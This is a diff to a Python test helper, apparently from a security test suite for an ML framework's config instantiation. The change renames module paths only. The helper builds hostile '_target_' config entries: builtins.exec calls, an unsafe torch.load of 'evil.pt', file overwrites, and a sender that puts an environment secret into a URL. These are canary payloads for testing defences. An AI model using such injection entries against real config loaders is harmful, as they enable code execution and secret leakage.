@@ -114,17 +114,17 @@ def put(settings: dict[str, Any], key: str, value: Any) -> None:
 def nodes(key: str, ground: Ground) -> dict[str, dict[str, Any]]:
     """What is put at a place, by the name of the attack."""
     journal = {"path": str(ground.sentinel / "metrics.csv")}
-    kind = "arena.loss.classification.Focal" if key.startswith("logger") else "arena.callback.journal.Journal"
+    kind = "arena.loss.classification.Focal" if key.startswith("logger") else "arena.logger.journal.Journal"
     arguments = {"labels": ["a", "b"]} if key.startswith("logger") else journal
     found: dict[str, dict[str, Any]] = {
-        "function": {"_target_": "arena.callback.journal.rewind", **journal, "step": -1},
-        "sender": {"_target_": "arena.callback.sender.answers", "url": "http://127.0.0.1:9/${oc.env:CANARY_SECRET}"},
+        "function": {"_target_": "arena.logger.journal.rewind", **journal, "step": -1},
+        "sender": {"_target_": "arena.logger.sender.answers", "url": "http://127.0.0.1:9/${oc.env:CANARY_SECRET}"},
         "kind": {"_target_": kind, **arguments},
         "outside": {"_target_": "canary.Canary"},
     }
     if "." in key and not key.startswith("metric"):
         found |= {
-            "writer": {"_target_": "arena.run.write_atomically", **journal, "text": "evil"},
+            "writer": {"_target_": "arena.core.run.write_atomically", **journal, "text": "evil"},
             "pickle": {"_target_": "torch.load", "f": str(ground.plug / "evil.pt"), "weights_only": False},
             "partial": {"_target_": "canary.alarm", "_partial_": True},
             "arguments": {"_target_": "builtins.exec", "_args_": ["import canary"]},
@@ -141,11 +141,11 @@ def values(ground: Ground) -> dict[str, Any]:
         "run_dir": str(ground.sentinel),
         "callback.predictions.folder": str(ground.sentinel),
         "callback.checkpoint.folder": str(ground.sentinel),
-        "logger.tensorboard": {"_target_": "arena.callback.tensorboard.TensorBoardRun", "folder": str(ground.sentinel)},
-        "logger.journal": {"_target_": "arena.callback.journal.Journal", "path": str(ground.sentinel / "metrics.csv")},
+        "logger.tensorboard": {"_target_": "arena.logger.tensorboard.TensorBoardRun", "folder": str(ground.sentinel)},
+        "logger.journal": {"_target_": "arena.logger.journal.Journal", "path": str(ground.sentinel / "metrics.csv")},
         "logger.csv": {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": str(ground.sentinel)},
         "logger.mlflow": {
-            "_target_": "arena.callback.mlflow.MLflowRun", "folder": ".", "tracking_uri": f"sqlite:///{elsewhere}.db",
+            "_target_": "arena.logger.mlflow.MLflowRun", "folder": ".", "tracking_uri": f"sqlite:///{elsewhere}.db",
         },
         "callback.saver": {
             "_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": str(ground.sentinel),
